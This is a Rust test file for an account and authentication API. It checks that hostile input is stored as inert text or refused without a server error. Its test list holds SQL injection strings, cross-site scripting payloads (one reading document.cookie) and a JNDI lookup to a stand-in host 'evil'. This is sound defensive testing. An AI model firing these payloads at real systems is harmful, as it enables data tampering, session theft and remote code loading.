//! Hostile text in every field: stored as inert data or refused, never executed and
//! never a server error.

use serde_json::{Value, json};

use crate::auth_support::{PASSWORD, spawn_auth_app_with};

const HOSTILE: &[&str] = &[
    "Robert'); DROP TABLE users;--",
    "' OR '1'='1' --",
    "1; UPDATE users SET role='admin'",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "\"><svg onload=alert(1)>",
    "{{7*7}} ${jndi:ldap://evil/x}",
    "نورة <b>عسيري</b> & co",
];

#[tokio::test]
async fn hostile_text_in_account_fields_is_stored_verbatim_and_served_as_inert_json() {
    let app = spawn_auth_app_with(|s| s.rate_limit.auth.limit = 1000).await;
    for (i, text) in HOSTILE.iter().enumerate() {
        // Reversed, so the password does not contain the name (which the policy refuses).
        let password = format!("{i}: {}", text.chars().rev().collect::<String>());
        let (session, _) = app
            .register(json!({
                "email": format!("hostile{i}@example.com"),
                "password": password,
                "name": text,
                "role": "seller",
                "seller": {"name": text, "city": text}
            }))
            .await;
        let me = app.get_as(&session.access, "/api/v1/me").await;
        assert_eq!(me.headers()["content-type"], "application/json");
        assert!(me.headers()["content-security-policy"].to_str().unwrap().contains("default-src 'none'"));
        let me: Value = me.json().await.unwrap();
        assert_eq!(me["name"], *text);
        let (name, city): (String, String) = sqlx::query_as("SELECT name, city FROM sellers WHERE id = $1::uuid")
            .bind(me["seller_id"].as_str().unwrap())
            .fetch_one(&app.db)
            .await
            .unwrap();
        assert_eq!((name.as_str(), city.as_str()), (*text, *text));

        let signed_in = app.login(&json!({"email": format!("hostile{i}@example.com"), "password": password})).await;
        assert_eq!(signed_in.status(), 200, "{text}");

        let key = app.post_as(&session.access, "/api/v1/seller/api-keys", &json!({"label": text})).await;
        assert_eq!(key.status(), 201, "{text}");
        let keys: Value = app.get_as(&session.access, "/api/v1/seller/api-keys").await.json().await.unwrap();
        assert_eq!(keys["data"][0]["label"], *text);
    }
    assert_eq!(
        app.count("SELECT count(*) FROM users WHERE role = 'seller'").await,
        HOSTILE.len() as i64,
        "no statement ran but the intended ones"
    );
    assert_eq!(app.count("SELECT count(*) FROM users WHERE role = 'admin'").await, 0);
}

#[tokio::test]
async fn hostile_text_in_credential_fields_is_refused_without_a_server_error() {
    let app = spawn_auth_app_with(|s| s.rate_limit.auth.limit = 1000).await;
    let session = app.register_buyer("real@example.com").await;
    let admin = app.admin("admin@example.com").await;
    for text in HOSTILE.iter().chain(&["a\u{0}b", "\u{202e}gpj.exe", ""]) {
        let attempts = [
            ("/api/v1/auth/register", json!({"email": text, "password": PASSWORD, "name": "X"}), &[400][..]),
            ("/api/v1/auth/register", json!({"phone": text, "password": PASSWORD, "name": "X"}), &[400][..]),
            ("/api/v1/auth/login", json!({"email": text, "password": text}), &[400, 401][..]),
            ("/api/v1/auth/login", json!({"phone": text, "password": PASSWORD}), &[400][..]),
            ("/api/v1/auth/refresh", json!({"refresh_token": text}), &[401][..]),
            ("/api/v1/auth/mfa/verify", json!({"mfa_token": text, "code": text}), &[401][..]),
            ("/api/v1/auth/otp/request", json!({"phone": text}), &[400][..]),
            ("/api/v1/auth/otp/verify", json!({"phone": "0501234567", "code": text}), &[400, 401][..]),
        ];
        for (path, body, allowed) in attempts {
            let response = app.post(path, &body).await;
            let status = response.status().as_u16();
            assert!(allowed.contains(&status), "{path} {body}: {status}");
            let envelope: Value = response.json().await.unwrap();
            assert!(envelope["error"]["code"].is_string(), "{path} {body}");
        }
        let password_change = app
            .post_as(&session.access, "/api/v1/me/password", &json!({"current_password": text, "new_password": text}))
            .await;
        assert_eq!(password_change.status(), 400, "{text}");
        let filtered = app
            .client
            .get(app.url("/api/v1/admin/audit-log"))
            .query(&[("event", text)])
            .bearer_auth(&admin.access)
            .send()
            .await
            .unwrap();
        // An empty filter is no filter.
        let expected = if text.is_empty() { 200 } else { 400 };
        assert_eq!(filtered.status(), expected, "{text:?}");
    }
    // Names with control characters are refused rather than stored.
    let control = app
        .post("/api/v1/auth/register", &json!({"email": "ctl@example.com", "password": PASSWORD, "name": "a\u{0}b"}))
        .await;
    assert_eq!(control.status(), 400);
    assert_eq!(app.count("SELECT count(*) FROM users").await, 2);
}
